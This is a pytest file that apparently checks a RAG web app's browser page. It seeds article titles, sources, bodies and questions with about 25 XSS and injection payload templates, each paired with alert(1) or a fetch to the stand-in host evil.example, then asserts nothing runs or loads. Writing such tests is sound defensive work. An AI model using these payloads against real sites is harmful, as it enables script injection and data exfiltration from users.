"""Hostile titles, bodies, sources and questions before a real browser: nothing runs, nothing foreign loads."""

from __future__ import annotations

import json
from itertools import product
from typing import TYPE_CHECKING

import pytest

from rag.assembly import sync_index
from rag.config import Settings
from tests.page.conftest import served

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.page.conftest import Open

EVIL = "http://evil.example"
PAYLOADS = [
    "<script>{call}</script>",
    "<img src=x onerror={call}>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    '"><img src=x onerror={call}>',
    "' onmouseover={call} x='",
    "<a href=javascript:{call}>x</a>",
    "[x](javascript:{call})",
    f"![x]({EVIL}/{{call}}.png)",
    f"<img src={EVIL}/x.png>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<iframe src={EVIL}></iframe>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<details open ontoggle={call}>",
    "<input autofocus onfocus={call}>",
    "<video><source onerror={call}></video>",
    "<math><mtext><img src=x onerror={call}></mtext></math>",
    "<style>@import '" + EVIL + "/x.css';</style>",
    "<base href=" + EVIL + ">",
    "<form action=" + EVIL + "><button>x</button></form>",
    "</textarea><script>{call}</script>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "{{{{constructor.constructor('{call}')()}}}}",
    "${{{call}}}",
]
CALLS = ("alert(1)", "fetch(`http://evil.example`)")
FOREIGN = "script, img, svg, iframe, style, link, base, form, video, math"
AT_A_TIME = 10
PLACES = ("title", "source", "body", "question")
ALL = [(payload.format(call=call), place) for payload, call in product(PAYLOADS, CALLS) for place in PLACES]


def test_there_are_two_hundred_payloads_and_more() -> None:
    assert len(ALL) >= 200


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A server over articles whose every field is hostile."""
    folder = tmp_path_factory.mktemp("hostile")
    rows = []
    for number, (payload, call) in enumerate(product(PAYLOADS, CALLS)):
        text = payload.format(call=call)
        rows.append(
            {
                "id": f"h{number}", "title": f"第{number}号展品公告 {text}", "source": f"展览馆 {text}",
                "published": "2025-03-01",
                "text": f"第{number}号展品于三月开展，共有{number + 100}件。说明：{text}。第{number}号展品免费参观。",
            }
        )  # fmt: skip
    (folder / "rows.jsonl").write_text("\n".join(json.dumps(row, ensure_ascii=False) for row in rows), "utf-8")
    index: Path = folder / "index"
    sync_index(Settings(index=index), [folder / "rows.jsonl"], progress=lambda _: None)
    with served(Settings(index=index)) as url:
        yield url


def test_no_payload_of_an_article_or_question_runs_or_loads_anything(opened: Open, hostile: str) -> None:
    tab = opened(url=hostile)
    questions = [f"第{number}号展品共有多少件？" for number in range(len(PAYLOADS) * len(CALLS))]
    questions += [payload for payload, place in ALL if place == "question"]
    for start in range(0, len(questions), AT_A_TIME):
        for question in questions[start : start + AT_A_TIME]:
            tab.ask(question)
        if tab.page.locator("button.cite").count():
            tab.page.locator("button.cite").first.click()
            tab.page.wait_for_selector("#panel:not([hidden])")
        assert tab.page.locator(f":is(#turns, #panel-body) :is({FOREIGN})").count() == 0
        assert tab.page.locator("a[href^='javascript:' i]").count() == 0
        # A long conversation is slow to keep; what it showed has been looked at.
        tab.page.click("#fresh")
    assert tab.faults == []
